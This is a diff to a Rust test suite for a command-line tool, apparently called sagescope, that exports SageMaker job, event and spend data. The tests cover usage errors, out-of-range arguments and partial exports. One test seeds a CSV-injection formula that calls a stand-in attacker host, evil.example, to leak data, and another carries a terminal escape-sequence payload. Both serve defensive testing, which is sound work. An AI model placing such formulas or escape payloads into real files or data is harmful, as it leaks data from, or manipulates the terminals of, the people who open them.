@@ -19,6 +19,32 @@ fn json_of(output: &std::process::Output) -> Value {
     serde_json::from_slice(&output.stdout).expect("stdout is JSON")
 }
 
+/// Runs `cmd` and checks it exits 0 (stderr shown otherwise).
+fn succeeds(cmd: &mut Command) -> std::process::Output {
+    let out = cmd.output().expect("runs");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    out
+}
+
+/// The cells of column `name` of a CSV document, read back with a CSV reader.
+fn csv_column(csv: &[u8], name: &str) -> Vec<String> {
+    let mut reader = csv::Reader::from_reader(csv);
+    let at = reader
+        .headers()
+        .expect("a header")
+        .iter()
+        .position(|h| h == name)
+        .expect("the column");
+    reader
+        .records()
+        .map(|r| r.expect("a record")[at].to_string())
+        .collect()
+}
+
 fn keys(row: &Value) -> Vec<String> {
     let mut k: Vec<String> = row.as_object().expect("object").keys().cloned().collect();
     k.sort();
@@ -354,11 +380,7 @@ fn offline_serves_the_cached_snapshot() {
 #[test]
 fn demo_and_offline_together_are_a_usage_error() {
     let home = tempfile::tempdir().expect("tempdir");
-    let out = sagescope(&home)
-        .args(["export", "jobs", "--demo", "--offline"])
-        .output()
-        .expect("runs");
-    assert_eq!(out.status.code(), Some(2));
+    usage_error(&home, &["export", "jobs", "--demo", "--offline"]);
 }
 
 #[test]
@@ -498,7 +520,7 @@ fn demo_events_export_is_the_timeline_newest_first_in_json_and_csv() {
 }
 
 #[test]
-fn offline_events_export_reads_the_cached_timeline_with_aws_text_made_safe() {
+fn offline_events_export_reads_the_cached_timeline_and_csv_keeps_the_text_as_received() {
     use sagescope::model::{Event, EventKind, ResourceKind, SeenChanges};
     let home = tempfile::tempdir().expect("tempdir");
     let path = home.path().join("cache/sagescope/cache.db");
@@ -551,17 +573,141 @@ fn offline_events_export_reads_the_cached_timeline_with_aws_text_made_safe() {
         .args(["export", "events", "--offline", "--format", "csv"])
         .output()
         .expect("runs");
-    let text = String::from_utf8(out.stdout).expect("utf-8");
-    assert!(
-        !text.contains('\u{1b}') && !text.contains('\u{7}'),
-        "{text}"
+    // A CSV file carries the data as received (its reader gets the same text back); only
+    // the terminal paths make control characters visible.
+    assert_eq!(
+        csv_column(&out.stdout, "detail"),
+        ["AlgorithmError: \u{1b}]0;pwned\u{7}"; 2],
+        "header and both events"
     );
-    assert!(text.contains("AlgorithmError: ␛]0;pwned␇"), "{text}");
-    assert_eq!(text.lines().count(), 3, "header and both events: {text}");
 
     let out = sagescope(&home)
         .args(["export", "jobs", "--offline", "--since", "1d"])
         .output()
         .expect("runs");
     assert_eq!(out.status.code(), Some(2), "--since is for events only");
+}
+
+/// Runs `args` and checks it is a usage error (exit 2) that prints nothing and no panic;
+/// answers its stderr.
+fn usage_error(home: &tempfile::TempDir, args: &[&str]) -> String {
+    let out = sagescope(home).args(args).output().expect("runs");
+    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+    assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
+    assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
+    assert!(out.stdout.is_empty(), "{args:?}: nothing printed");
+    stderr
+}
+
+#[test]
+fn since_of_99999999999999_days_exits_2_with_a_message_not_a_panic() {
+    let home = tempfile::tempdir().expect("tempdir");
+    // The first overflows a duration; the second is a duration, but reaches before the
+    // earliest date there is.
+    for age in ["99999999999999d", "100000000d"] {
+        let stderr = usage_error(&home, &["export", "events", "--demo", "--since", age]);
+        assert!(
+            stderr.contains(&format!("`{age}` is too far back")),
+            "{stderr}"
+        );
+    }
+}
+
+#[test]
+fn out_of_range_numbers_on_the_command_line_exit_2_without_a_panic() {
+    let home = tempfile::tempdir().expect("tempdir");
+    let runs: [&[&str]; 4] = [
+        &["export", "spend", "--demo", "--days", "4000000000"],
+        &["export", "spend", "--demo", "--days", "0"],
+        &["logs", "some-job", "--demo", "--interval", "inf"],
+        &["logs", "some-job", "--demo", "--since", "99999999999999w"],
+    ];
+    for args in runs {
+        let stderr = usage_error(&home, args);
+        assert!(
+            stderr.contains(args[args.len() - 1]),
+            "names the value: {stderr}"
+        );
+    }
+}
+
+#[test]
+fn raw_is_for_csv_only() {
+    let home = tempfile::tempdir().expect("tempdir");
+    let stderr = usage_error(&home, &["export", "jobs", "--demo", "--raw"]);
+    assert!(
+        stderr.contains("--raw only applies to --format csv"),
+        "{stderr}"
+    );
+    succeeds(sagescope(&home).args(["export", "spend", "--demo", "--format", "csv", "--raw"]));
+}
+
+#[test]
+fn an_error_of_an_account_outside_the_slice_does_not_make_the_export_partial() {
+    use sagescope::model::FetchError;
+    let home = tempfile::tempdir().expect("tempdir");
+    let path = home.path().join("cache/sagescope/cache.db");
+    let mut world = sagescope::demo::world(chrono::Utc::now());
+    world.jobs.errors = vec![FetchError {
+        account: "research".into(),
+        region: Some("us-east-1".into()),
+        message: "AccessDenied".into(),
+        ..FetchError::default()
+    }];
+    let mut cache = sagescope::cache::Cache::open(&path).expect("opens").cache;
+    common::seed_cache(&mut cache, &world);
+    drop(cache);
+    let export = |account: &str| {
+        let out = sagescope(&home)
+            .args(["export", "jobs", "--offline", "--account", account])
+            .output()
+            .expect("runs");
+        (out.status.code(), json_of(&out))
+    };
+
+    let (code, doc) = export("ml-prod");
+    assert_eq!(code, Some(0), "research's failure is not ml-prod's: {doc}");
+    assert_eq!(doc["errors"], Value::Array(vec![]));
+    assert!(!doc["rows"].as_array().expect("rows").is_empty());
+
+    // By id too; and the failing account's own slice is partial, its error listed.
+    let (code, _) = export("222222222222");
+    assert_eq!(code, Some(0));
+    for research in ["research", "333333333333"] {
+        let (code, doc) = export(research);
+        assert_eq!(code, Some(3), "{research}");
+        assert_eq!(doc["errors"][0]["account"], "research");
+    }
+}
+
+#[test]
+fn a_formula_in_a_tag_value_is_defused_in_csv_unless_raw() {
+    let formula = "=HYPERLINK(\"http://evil.example/?leak\",\"click\")";
+    let home = tempfile::tempdir().expect("tempdir");
+    let path = home.path().join("cache/sagescope/cache.db");
+    let mut world = sagescope::demo::world(chrono::Utc::now());
+    let row = world
+        .spend
+        .rows
+        .iter_mut()
+        .find(|r| r.group_key == "project")
+        .expect("the demo spends by project");
+    row.group_value = formula.into();
+    let mut cache = sagescope::cache::Cache::open(&path).expect("opens").cache;
+    common::seed_cache(&mut cache, &world);
+    drop(cache);
+    let values = |extra: &[&str]| -> Vec<String> {
+        let out = succeeds(
+            sagescope(&home)
+                .args(["export", "spend", "--offline", "--format", "csv"])
+                .args(["--group-by", "project"])
+                .args(extra),
+        );
+        csv_column(&out.stdout, "group_value")
+    };
+    let defused = values(&[]);
+    assert!(defused.contains(&format!("'{formula}")), "{defused:?}");
+    assert!(!defused.contains(&formula.to_string()));
+    let raw = values(&["--raw"]);
+    assert!(raw.contains(&formula.to_string()), "{raw:?}");
 }
